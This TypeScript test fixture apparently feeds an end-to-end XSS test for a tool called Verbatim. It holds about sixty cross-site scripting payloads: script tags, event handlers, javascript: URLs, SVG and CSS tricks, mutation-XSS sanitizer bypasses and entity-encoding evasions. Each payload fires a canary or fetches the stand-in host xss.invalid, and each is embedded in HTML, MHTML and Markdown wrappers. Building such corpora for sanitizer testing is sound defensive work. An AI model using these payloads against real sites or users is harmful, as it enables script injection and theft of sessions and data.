/**
 * The XSS corpus for e2e/xss.e2e.ts (issue 5, part 8): HTML payloads, written for Verbatim,
 * grouped by kind. Each one, if it ever ran, would call the canary `top.__xss(<id>)` (which
 * the spec installs in every frame), open an `alert`, or fetch `http://xss.invalid/<id>`
 * (which the spec records as a request leaving for a non-local address).
 *
 * In the templates `CANARY` stands for the canary call and `REMOTE` for the remote address;
 * {@link XSS_PAYLOADS} has them filled in. Sources of the tricks: the OWASP XSS filter
 * evasion cheat sheet, PortSwigger's XSS cheat sheet, and the DOMPurify bypasses published
 * by Michał Bentkowski (2019-2020) and Gareth Heyes (mutation XSS through namespace confusion).
 */

/** What kind of trick a payload is. */
export type XssKind = 'script' | 'handler' | 'url' | 'svg' | 'css' | 'mutation' | 'template' | 'encoding';

/** One payload: its number (used in its canary), kind, a short name and the HTML. */
export interface XssPayload {
  id: number;
  kind: XssKind;
  name: string;
  html: string;
}

const TEMPLATES: [XssKind, string, string][] = [
  // Script tags.
  ['script', 'plain script', '<script>CANARY</script>'],
  ['script', 'uppercase script', '<SCRIPT>CANARY</SCRIPT>'],
  ['script', 'mixed case script with attributes', '<ScRiPt type="text/javascript" >CANARY</sCrIpT >'],
  ['script', 'split script tag', '<scr<script>ipt>CANARY</scr</script>ipt>'],
  ['script', 'script with src', '<script src="REMOTE"></script>'],
  ['script', 'module script importing', '<script type="module">import "REMOTE"; CANARY</script>'],
  ['script', 'script closed by a comment trick', '<!--<script>--><script>CANARY//</script>'],
  // Event handlers.
  ['handler', 'img onerror', '<img src="x" onerror="CANARY">'],
  ['handler', 'unquoted mixed-case onerror', '<IMG SRC=x oNeRrOr=CANARY>'],
  ['handler', 'body onload', '<body onload="CANARY"><p>body</p></body>'],
  ['handler', 'svg onload', '<svg onload="CANARY"></svg>'],
  ['handler', 'details ontoggle', '<details open ontoggle="CANARY"><summary>s</summary>d</details>'],
  ['handler', 'autofocus onfocus', '<input autofocus onfocus="CANARY">'],
  ['handler', 'video source onerror', '<video><source onerror="CANARY"></video>'],
  ['handler', 'audio onerror', '<audio src="x" onerror="CANARY"></audio>'],
  ['handler', 'full-screen onmouseover', '<div onmouseover="CANARY" style="position:fixed;inset:0;z-index:99999">cover</div>'],
  ['handler', 'marquee onstart', '<marquee onstart="CANARY">m</marquee>'],
  ['handler', 'slash-separated onerror', '<img/src="x"/onerror="CANARY">'],
  // javascript:, data: and vbscript: URLs.
  ['url', 'a href javascript:', '<a href="javascript:CANARY">link</a>'],
  ['url', 'a href with control character before javascript:', '<a href="&#14; javascript:CANARY">link</a>'],
  ['url', 'a href tab inside javascript:', '<a href="java&#x09;script:CANARY">link</a>'],
  ['url', 'a href data: HTML', '<a href="data:text/html,&lt;script&gt;CANARY&lt;/script&gt;">link</a>'],
  ['url', 'a href vbscript:', '<a href="vbscript:CANARY">link</a>'],
  ['url', 'iframe src javascript:', '<iframe src="javascript:CANARY"></iframe>'],
  ['url', 'iframe src remote', '<iframe src="REMOTE"></iframe>'],
  ['url', 'form action javascript:', '<form action="javascript:CANARY"><input type="submit" value="go"></form>'],
  ['url', 'button formaction javascript:', '<form><button formaction="javascript:CANARY">go</button></form>'],
  ['url', 'object data', '<object data="javascript:CANARY"></object><object data="REMOTE"></object>'],
  ['url', 'embed base64 data:', '<embed src="data:text/html;base64,BASE64SCRIPT">'],
  ['url', 'meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:CANARY">'],
  ['url', 'base href', '<base href="javascript:CANARY//"><a href="/relative">relative link</a>'],
  ['url', 'img src remote', '<img src="REMOTE">'],
  // SVG.
  ['svg', 'svg use href', '<svg><use href="data:image/svg+xml,&lt;svg id=%27x%27 xmlns=%27http://www.w3.org/2000/svg%27&gt;&lt;image href=%271%27 onerror=%27CANARY%27/&gt;&lt;/svg&gt;#x"></use></svg>'],
  ['svg', 'svg animate onbegin', '<svg><animate onbegin="CANARY" attributeName="x" dur="1s"></animate></svg>'],
  ['svg', 'svg animate href to javascript:', '<svg><a><animate attributeName="href" values="javascript:CANARY"></animate><text x="20" y="20">click</text></a></svg>'],
  ['svg', 'svg foreignObject iframe', '<svg><foreignObject><iframe srcdoc="&lt;script&gt;CANARY&lt;/script&gt;"></iframe></foreignObject></svg>'],
  ['svg', 'script in svg', '<svg><script>CANARY</script></svg>'],
  ['svg', 'svg set onmouseover', '<svg><set attributeName="onmouseover" to="CANARY"></set></svg>'],
  ['svg', 'xlink href javascript:', '<svg><a xlink:href="javascript:CANARY"><text x="20" y="20">x</text></a></svg>'],
  // CSS.
  ['css', 'expression()', '<div style="width: expression(CANARY)">css</div>'],
  ['css', 'url(javascript:)', '<div style="background-image: url(javascript:CANARY)">css</div>'],
  ['css', '@import', '<style>@import url("REMOTE");</style>'],
  ['css', 'behavior', '<div style="behavior: url(REMOTE)">css</div>'],
  ['css', 'background remote', '<p style="background: url(REMOTE)">css</p>'],
  ['css', 'link stylesheet', '<link rel="stylesheet" href="REMOTE">'],
  // Mutation XSS (namespace confusion, re-parsing).
  ['mutation', 'noscript title', '<noscript><p title="</noscript><img src=x onerror=CANARY>">'],
  ['mutation', 'svg p style', '<svg><p><style><img src=x onerror=CANARY>'],
  ['mutation', 'math mglyph style comment', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CANARY&gt;">'],
  ['mutation', 'title in body', '<title><img src=x onerror=CANARY></title>'],
  ['mutation', 'textarea', '<textarea><img src=x onerror=CANARY></textarea>'],
  ['mutation', 'nested forms in math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CANARY>'],
  ['mutation', 'svg end p style', '<svg></p><style><a id="</style><img src=1 onerror=CANARY>">'],
  ['mutation', 'xmp', '<xmp><img src=x onerror=CANARY></xmp>'],
  // Templates and srcdoc.
  ['template', 'template content', '<template><img src=x onerror=CANARY></template>'],
  ['template', 'declarative shadow root', '<div><template shadowrootmode="open"><img src=x onerror=CANARY></template></div>'],
  ['template', 'iframe srcdoc', '<iframe srcdoc="&lt;img src=x onerror=CANARY&gt;"></iframe>'],
  // HTML entities and encoding tricks.
  ['encoding', 'escaped script stays text', '&lt;script&gt;CANARY&lt;/script&gt;'],
  ['encoding', 'decimal entities in href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CANARY">link</a>'],
  ['encoding', 'hex entities and &colon;', '<a href="&#x6A;ava&#X53;cript&colon;CANARY">link</a>'],
  ['encoding', 'zero-padded entities without semicolons', '<a href="&#0000106&#0000097vascript&#0000058CANARY">link</a>'],
  ['encoding', 'backtick attribute', '<img src=`x` onerror=`CANARY`>'],
  ['encoding', 'entity-encoded handler body', '<img src=x onerror="&#116;&#111;&#112;.__xss(ID)">'],
  ['encoding', 'null byte in tag', '<scri\u0000pt>CANARY</scri\u0000pt><img src=x o\u0000nerror=CANARY>'],
];

/** The canary call a payload makes: `top.__xss(id)`. */
export function canary(id: number): string {
  return `top.__xss(${id})`;
}

/** The remote address a payload fetches: `http://xss.invalid/<id>` (never resolvable). */
export function remote(id: number): string {
  return `http://xss.invalid/${id}`;
}

/** The corpus, numbered from 1, with each payload's canary and remote address filled in. */
export const XSS_PAYLOADS: readonly XssPayload[] = TEMPLATES.map(([kind, name, template], i) => {
  const id = i + 1;
  const html = template
    .replace(/BASE64SCRIPT/g, () => Buffer.from(`<script>${canary(id)}</script>`).toString('base64'))
    .replace(/CANARY/g, canary(id))
    .replace(/REMOTE/g, remote(id))
    .replace(/\bID\b/g, String(id));
  return { id, kind, name, html };
});

/** A small article around a payload, so that Readability keeps the page's body as its article. */
export function xssArticle(p: XssPayload): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Payload ${p.id}: ${p.kind}</title></head>
<body><article><h1>Payload ${p.id}: ${p.kind}</h1>
<p>The harbour authority published its annual report on Monday, describing payload ${p.id} as a year of record traffic.</p>
<p>${p.html}</p>
<p>${p.html} Dockworkers said the new cranes had cut waiting times for ships by almost half since spring.</p>
<div>${p.html}</div>
<p>The director said the port would keep growing; ${p.name} was the case under test.</p>
</article></body></html>`;
}

/** The page as a saved web archive (MHTML): one HTML part, quoted-printable as browsers write it. */
export function xssMhtml(p: XssPayload): string {
  const html = xssArticle(p);
  // Quoted-printable (RFC 2045, 6.7): "=" and bytes outside printable ASCII as =XX, soft line breaks before 76 columns.
  const lines: string[] = [];
  for (const line of html.split('\n')) {
    let out = '';
    let width = 0;
    for (const byte of Buffer.from(line, 'utf8')) {
      const token = byte === 0x3d || byte < 0x20 || byte > 0x7e ? `=${byte.toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(byte);
      if (width + token.length > 72) {
        out += '=\r\n';
        width = 0;
      }
      out += token;
      width += token.length;
    }
    lines.push(out);
  }
  const qp = lines.join('\r\n');
  return [
    'From: <Saved by Blink>',
    `Snapshot-Content-Location: https://example.org/payload-${p.id}`,
    `Subject: Payload ${p.id}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="----MultipartBoundary--xss"',
    '',
    '------MultipartBoundary--xss',
    'Content-Type: text/html',
    'Content-ID: <frame-xss@mhtml.blink>',
    'Content-Transfer-Encoding: quoted-printable',
    `Content-Location: https://example.org/payload-${p.id}`,
    '',
    qp,
    '',
    '------MultipartBoundary--xss--',
    '',
  ].join('\r\n');
}

/** The payload in a Markdown file, where raw HTML is allowed inline and as blocks. */
export function xssMarkdown(p: XssPayload): string {
  return `# Payload ${p.id}: ${p.kind}\n\nThe harbour authority published its report, payload ${p.id}.\n\n${p.html}\n\nInline ${p.html} in a sentence, and [a link](javascript:${canary(p.id)}) too.\n`;
}
